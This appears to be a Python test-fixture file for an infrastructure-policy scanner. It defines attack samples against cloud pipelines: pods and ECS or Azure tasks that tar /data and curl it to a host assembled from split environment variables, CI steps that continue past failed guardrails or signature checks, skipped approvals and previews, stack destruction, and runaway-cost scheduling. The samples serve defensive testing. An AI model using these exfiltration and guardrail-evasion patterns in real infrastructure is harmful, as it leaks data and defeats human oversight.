"""Other spellings of the twenty-second set's attacks on money, texts and pipelines (2026-12-01).

Properties by pulumi-aws 7.51.1 and pulumi-azure-native 3.29.0; the sources are those of the rules.
"""

import json

from ..blind import HERE, IMAGE, TAGS, aws, az, crd, k8s, meta, pod, workload
from ..harness import UNKNOWN, Given
from . import Attack
from .twenty_second_money_b import PIPELINE, SOURCE, build, phases, stage

ABROAD = ("FJ-RES-",)
CODE = ("FJ-ESC-115", "FJ-ESC-109")
SPLIT = [{"name": "VENDOR", "value": "drop.fleet-tools"}, {"name": "ENDING", "value": "io"}]
OF_ECS = {"name": "app", "image": IMAGE, "essential": True, "environment": SPLIT,
          "command": ["sh", "-c", "tar c /data | curl -sT - https://${VENDOR}.${ENDING}/in"]}  # fmt: skip
URGENT = {"condition": {"result": "SKIP", "rules": [{
    "name": "urgent", "ruleTypeId": {"category": "Rule", "owner": "AWS", "provider": "VariableCheck", "version": "1"},
    "configuration": {"Variable": "#{variables.urgent}", "Value": "yes", "Operator": "NE"}}]}}  # fmt: skip
IMAGES = """\
schemaVersion: 1.0
phases:
  - name: build
    steps:
      - name: verify
        action: ExecuteBash
        onFailure: Continue
        inputs:
          commands: [cosign verify --key /keys/bank.pub registry.dc1.example.ae/agents/fleet]
"""
LOGS = ["sh", "-c", "while true; do date; sleep 5; done"]
JOBS = "evaluate:\n  allow_failure: true\n  script: [falaj check, falaj preview --stack prod-uae]\n"


def containers(*commands: list[str]) -> dict[str, object]:
    """Returns the part of a pod that has a container for each command."""
    listed = [
        pod({"command": command, "name": f"part-{index}"})["containers"] for index, command in enumerate(commands)
    ]
    return {"containers": [item for found in listed if isinstance(found, list) for item in found]}


def category(first: dict[str, object]) -> tuple[Given, ...]:
    """Returns a cost category whose first rule comes before that of a unit."""
    return (aws("costexplorer/CostCategory", {
        "name": "unit", "ruleVersion": "CostCategoryExpression.v1", "defaultValue": "other", "tags": TAGS, "rules": [
            {"value": "treasury", "rule": first},
            {"value": "cards", "rule": {"tags": {"key": "business-unit", "values": ["cards"],
                                                 "matchOptions": ["EQUALS"]}}}]}),)  # fmt: skip


def scaled(kind: str, service: str, **props: object) -> tuple[Given, ...]:
    """Returns a number up to which a service scales."""
    dimension = {"ecs": "ecs:service:DesiredCount", "lambda": "lambda:function:ProvisionedConcurrency"}[service]
    return (aws(f"appautoscaling/{kind}", {
        "serviceNamespace": service, "scalableDimension": dimension, "resourceId": UNKNOWN, **props}),)  # fmt: skip


ATTACKS = (
    Attack("a shell of a pod puts together the address of a stranger", ABROAD, (workload("apps/v1:Deployment", {
        "command": ["sh", "-c", "tar c /data | curl -sT - https://$VENDOR.$ENDING/in"], "env": SPLIT}),), "critical"),
    Attack("an argument of a pod puts together the address of a stranger", ABROAD, (workload("apps/v1:Deployment", {
        "args": ["--remote-write=https://$(VENDOR).$(ENDING)/in"], "env": SPLIT}),), "critical"),
    Attack("a task of ECS puts together the address of a stranger", ABROAD, (aws("ecs/TaskDefinition", {
        "family": "app", "containerDefinitions": json.dumps([OF_ECS]), "tags": TAGS}),), "critical"),
    Attack("a container group puts together the address of a stranger", ABROAD, (
        az("containerinstance:ContainerGroup", {
            **HERE, "containerGroupName": "app", "osType": "Linux", "containers": [{
                "name": "app", "image": IMAGE, "environmentVariables": SPLIT, "command": OF_ECS["command"],
                "resources": {"requests": {"cpu": 1, "memoryInGB": 1}}}]}),), "critical"),
    Attack("a shell goes on when the guardrails refuse", CODE, (phases(build={"commands": [
        "pulumi preview --stack prod-uae --policy-pack guardrails || true", "make release"]}),), "critical"),
    Attack("a component of images goes on when a signature is wrong", CODE, (aws("imagebuilder/Component", {
        "name": "fleet", "platform": "Linux", "version": "1.0.0", "data": IMAGES, "tags": TAGS}),), "critical"),
    Attack("jobs of a forge go on when the guardrails refuse", CODE, (
        k8s("core/v1:ConfigMap", {"metadata": meta("ci"), "data": {"jobs.yml": JOBS}}),), "critical"),
    Attack("whoever starts a run leaves out the approval", CODE, (aws("codepipeline/Pipeline", {
        **PIPELINE, "stages": [SOURCE, {"name": "Approve", "beforeEntry": URGENT, "actions": [{
            "name": "Approve", "category": "Approval", "owner": "AWS", "provider": "Manual", "version": "1"}]},
            stage("Deploy", "deploy")]}),), "critical"),
    Attack("a command leaves out the preview by a variable", CODE, (phases(
        build={"commands": ["PULUMI_OPTION_SKIP_PREVIEW=true make deploy"]}),), "critical"),
    Attack("a variable leaves out the hook of the guardrails", CODE, (build(
        environmentVariables=[{"name": "SKIP", "value": "ruff,falaj-guardrails"}]),), "critical"),
    Attack("a program of Node deploys a stack", CODE, (workload("apps/v1:Deployment", {"command": [
        "node", "-e", "const {LocalWorkspace} = require('@pulumi/pulumi/automation');\n"
        "LocalWorkspace.selectStack({stackName: 'p', workDir: '/i'}).then(stack => stack.up())"]}),), "critical"),
    Attack("a job imports the automation API as a module", CODE, (k8s("batch/v1:Job", {
        "metadata": meta(), "spec": {"template": {"metadata": {"labels": TAGS}, "spec": {
            **pod({"command": ["python3", "-c", "import pulumi.automation as auto\n"
                               "auto.select_stack('p', work_dir='/i').destroy()"]}), "restartPolicy": "Never"}}}}),),
        "critical"),
    Attack("each night a service starts two thousand tasks", ("FJ-COST-126",), scaled(
        "ScheduledAction", "ecs", name="night", schedule="cron(0 22 * * ? *)",
        scalableTargetAction={"minCapacity": 2000, "maxCapacity": 2000}), "major"),
    Attack("five thousand environments of a function wait for calls", ("FJ-COST-126",), scaled(
        "Target", "lambda", minCapacity=10, maxCapacity=5000, tags=TAGS), "major"),
    Attack("each hour a workflow begins that never ends", ("FJ-COST-126",), (crd(
        "argoproj.io/v1alpha1:CronWorkflow", {"schedules": ["0 * * * *"], "workflowSpec": {
            "entrypoint": "wait", "podMetadata": {"labels": TAGS}, "templates": [{"name": "wait", "container": {
                "image": IMAGE, "command": ["tail", "-f", "/dev/null"]}}]}}),), "major"),
    Attack("beside each report a container waits for ever", ("FJ-COST-126",), (k8s("batch/v1:CronJob", {
        "metadata": meta(), "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {
            "metadata": {"labels": TAGS}, "spec": {
                **pod({}), **containers(["/app/report"], LOGS), "restartPolicy": "Never"}}}}}}),), "major"),
    Attack("the first rule of a cost category fits every account", ("FJ-ESC-115",), category({
        "ors": [{"dimension": {"key": "LINKED_ACCOUNT_NAME", "values": [""], "matchOptions": ["CONTAINS"]}},
                {"tags": {"key": "owner", "values": ["treasury"], "matchOptions": ["EQUALS"]}}]}), "major"),
    Attack("the first rule of a cost category fits all use", ("FJ-ESC-115",), category({
        "dimension": {"key": "RECORD_TYPE", "values": ["Usage"], "matchOptions": ["EQUALS"]}}), "major"),
)  # fmt: skip
